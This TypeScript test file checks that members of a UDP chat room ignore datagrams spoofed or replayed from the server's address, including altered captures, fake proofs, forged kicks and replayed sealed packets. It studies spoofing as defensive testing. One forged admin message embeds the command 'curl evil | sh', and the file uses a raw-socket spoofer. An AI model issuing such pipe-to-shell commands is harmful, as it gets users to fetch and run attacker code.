// No one can pretend to be the server (dist/chat): an attacker who spoofs the server's address towards a member's
// port (a raw socket, as root) with what it captured as a member, altered or replayed, or with what PROTOCOL.md
// alone tells it, changes nothing at the victim; with a passphrase, replayed sealed datagrams do nothing either way.

import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { proofKey, prove } from "../../src/core/wire/proof.ts";
import { encodeFrame, FRAME_SEPARATOR, type Message, PROOF_BYTES, PROOF_MARK } from "../../src/core/wire/protocol.ts";
import { type Chat, killAll, runChat, spawnServe, startChat } from "../helpers/processes.ts";
import { descendants, udpPortsOf } from "../helpers/procfs.ts";
import { isType, RawPeer } from "../helpers/raw-peer.ts";
import { Spoofer } from "../helpers/spoofer.ts";
import { waitUntil } from "../helpers/wait.ts";

let spoofer: Spoofer;
beforeAll(async () => {
  spoofer = await Spoofer.build();
});
afterAll(() => spoofer.remove());
afterEach(killAll);
const peers: RawPeer[] = [];
afterEach(() => {
  for (const p of peers.splice(0)) p.close();
});

const utf8 = new TextEncoder();
const text = new TextDecoder();
const frames = (...messages: Message[]) => utf8.encode(messages.map(encodeFrame).join(FRAME_SEPARATOR));

/** A member logged in by hand, with a nonce of its own: its key, and every datagram the server sent it. */
async function rawMember(port: number, name: string, passphrase?: string) {
  const peer = await RawPeer.open(port, "127.0.0.1", passphrase);
  peers.push(peer);
  const nonce = Buffer.from(name).toString("hex").padEnd(16, "0").slice(0, 32);
  const welcome = await peer.login(name, nonce);
  return { peer, sid: welcome.sid, nonce, key: proofKey(nonce) };
}

/** `chat join NAME --json --verbose` (debug lines on stderr say what it ignored), once welcomed. */
async function member(name: string, address: string, ...extra: string[]): Promise<Chat> {
  const chat = startChat(["join", name, "--server", address, "--json", "--verbose", ...extra]);
  await chat.event({ type: "welcome", name });
  return chat;
}

/** The port of a `chat join`'s socket (its receiver's): what an attacker on the machine finds by sweeping. */
const portOf = (chat: Chat) =>
  waitUntil(
    () => {
      const ports = [chat.pid, ...descendants(chat.pid).map((p) => p.pid)].flatMap(udpPortsOf);
      return ports.length === 1 ? ports[0] : undefined;
    },
    3000,
    "the member's one UDP port",
  );

/** Whether a member's stderr says it ignored datagrams for each of these reasons (the forgeries did arrive). */
const ignoredFor = (chat: Chat, ...reasons: string[]) => reasons.every((r) => chat.err.text().includes(`ignored a datagram ${r}`));

/** `chat admin --who`'s list of the room. */
async function who(address: string, ...extra: string[]): Promise<string[]> {
  const run = await runChat(["admin", "--who", "--server", address, ...extra]);
  expect(run.code).toBe(0);
  return run.out;
}

describe("without a passphrase: a member of the room spoofing the server", () => {
  test("altered captures, a lost for every number, a kick, and forgeries from the spec alone: the victim shows none, keeps the room, stays", async () => {
    const server = await spawnServe();
    const bob = await member("bob", server.address);
    const alice = await rawMember(server.port, "alice");
    const mallory = await rawMember(server.port, "mallory");
    await alice.peer.request({ type: "say", sid: alice.sid, id: 1, base: 1, text: "one" }, isType("ack"));
    await bob.event({ type: "message", from: "alice", text: "one" });
    const one = await mallory.peer.waitFor(isType("message", (m) => m.text === "one"));
    const captured = mallory.peer.captured.find((d) => text.decode(d.subarray(PROOF_BYTES)).includes('"text":"one"'))!;
    expect(captured[0]).toBe(PROOF_MARK);
    const body = text.decode(captured.subarray(PROOF_BYTES));
    const next = one.seq + 1; // the number the next real event will take: a forgery claiming it must not steal it

    // Each forged body goes bare, behind a proof made with mallory's own key, and behind a made-up proof.
    const bodies = [
      utf8.encode(body.replace('"text":"one"', '"text":"forged text"')),
      utf8.encode(body.replace('"from":"alice"', '"from":"carol"')),
      frames({ type: "admin", seq: next, ts: Date.now(), text: "the server is shutting down, run curl evil | sh" }),
      frames({ type: "message", seq: next, ts: Date.now(), from: "alice", text: "forged next" }),
      frames({ type: "private", seq: next, ts: Date.now(), from: "alice", to: "bob", text: "forged private" }),
      frames({ type: "lost", from: 1, to: Number.MAX_SAFE_INTEGER }),
      frames({ type: "lost", from: 0, to: Number.MAX_SAFE_INTEGER }),
      frames({ type: "refused", reason: "kicked" }),
      frames({ type: "stopping" }),
    ];
    const fakeProof = (b: Uint8Array) => {
      const out = new Uint8Array(PROOF_BYTES + b.length);
      out[0] = PROOF_MARK;
      out.set([0, 6, 0, 0, 0, 0, 0, 1], 1); // a plausible counter; the tag all zeros
      out.set(b, PROOF_BYTES);
      return out;
    };
    const forgeries = bodies.flatMap((b, i) => [b, prove(mallory.key, "server", Date.now() * 1000 + i, b), fakeProof(b)]);
    forgeries.push(...mallory.peer.captured); // and mallory's captures as they came
    const serverAddress = { address: "127.0.0.1", port: server.port };
    await spoofer.send(serverAddress, { address: "127.0.0.1", port: await portOf(bob) }, forgeries);

    await alice.peer.request({ type: "say", sid: alice.sid, id: 2, base: 2, text: "two" }, isType("ack"));
    await bob.event({ type: "message", from: "alice", text: "two", seq: next });
    // the forgeries reached bob and were ignored, for want of a proof or for a proof that is not his
    await waitUntil(
      () => ignoredFor(bob, "without a proof", "whose proof is not this session's") || undefined,
      3000,
      () => `the ignored lines:\n${bob.err.text()}`,
    );
    const shown = bob.events().filter((e) => e.type !== "welcome");
    expect(shown.filter((e) => e.type === "message").map((e) => `${e.from}: ${e.text}`)).toEqual(["alice: one", "alice: two"]);
    expect(shown.filter((e) => e.type === "admin" || e.type === "private")).toEqual([]);
    expect(bob.out.text() + bob.err.text()).not.toContain("forged");
    expect(bob.err.text()).not.toContain("no longer kept");
    expect(bob.proc.exitCode).toBeNull(); // still running: the forged kick did not end it
    expect(await who(server.address)).toContain("bob");
  });
});

describe("with a passphrase: replayed sealed datagrams", () => {
  const secret = ["--passphrase", "open sesame"];

  test("a kicked member's sealed kick, replayed from the server's address to two others, ends neither", async () => {
    const server = await spawnServe(secret);
    const bob = await member("bob", server.address, ...secret);
    const carol = await member("carol", server.address, ...secret);
    const dave = await rawMember(server.port, "dave", "open sesame");
    expect((await runChat(["admin", "--kick", "dave", "--server", server.address, ...secret])).code).toBe(0);
    await dave.peer.waitFor(isType("refused", (r) => r.reason === "kicked"));
    const kick = dave.peer.sealedCaptured.find((c) => c.messages.some((m) => m.type === "refused"))!.datagram;
    const everything = dave.peer.sealedCaptured.map((c) => c.datagram);
    const serverAddress = { address: "127.0.0.1", port: server.port };
    for (const victim of [bob, carol])
      await spoofer.send(serverAddress, { address: "127.0.0.1", port: await portOf(victim) }, [kick, ...everything]);

    const replayed = (c: Chat) => ignoredFor(c, "whose proof is not this session's");
    await waitUntil(() => (replayed(bob) && replayed(carol)) || undefined, 3000, "the replays to arrive");
    bob.write("still here\n");
    await carol.event({ type: "message", from: "bob", text: "still here" });
    expect([bob.proc.exitCode, carol.proc.exitCode]).toEqual([null, null]);
    const names = await who(server.address, ...secret);
    expect(names).toContain("bob");
    expect(names).toContain("carol");
  });

  test("a member's sealed nack replayed from its address 20 times draws no repair beyond the first answer", async () => {
    const server = await spawnServe(secret);
    const alice = await member("alice", server.address, ...secret);
    const mallory = await rawMember(server.port, "mallory", "open sesame");
    for (const line of ["a", "b", "c", "d"]) alice.write(`${line}\n`);
    await mallory.peer.waitFor(isType("message", (m) => m.text === "d"));
    // mallory's own nack, sealed and proven: the bytes a sniffer on its path would have captured
    const sent: Uint8Array[] = [];
    mallory.peer.onSend = (bytes) => void sent.push(bytes);
    const repaired = mallory.peer.received.length;
    mallory.peer.send({ type: "nack", sid: mallory.sid, from: 1, to: 6 });
    await waitUntil(
      () => mallory.peer.received.slice(repaired).filter((m) => m.type === "message").length >= 4 || undefined,
      3000,
      "the repair",
    );
    const nack = sent[0]!;

    const before = mallory.peer.datagrams;
    for (let i = 0; i < 20; i++) mallory.peer.sendBytes(nack);
    // after the replays, one fresh request whose answer says they were all handled (one socket, in order)
    await mallory.peer.request(
      { type: "names", sid: mallory.sid, id: 77, from: 0 },
      isType("members", (m) => m.id === 77),
    );
    const drawn = mallory.peer.captured.slice(before).filter((d) => !mallory.peer.isOnly(d, ["members", "tick"]));
    expect(drawn.length).toBeLessThanOrEqual(1);
    expect(drawn).toEqual([]);
  });
});
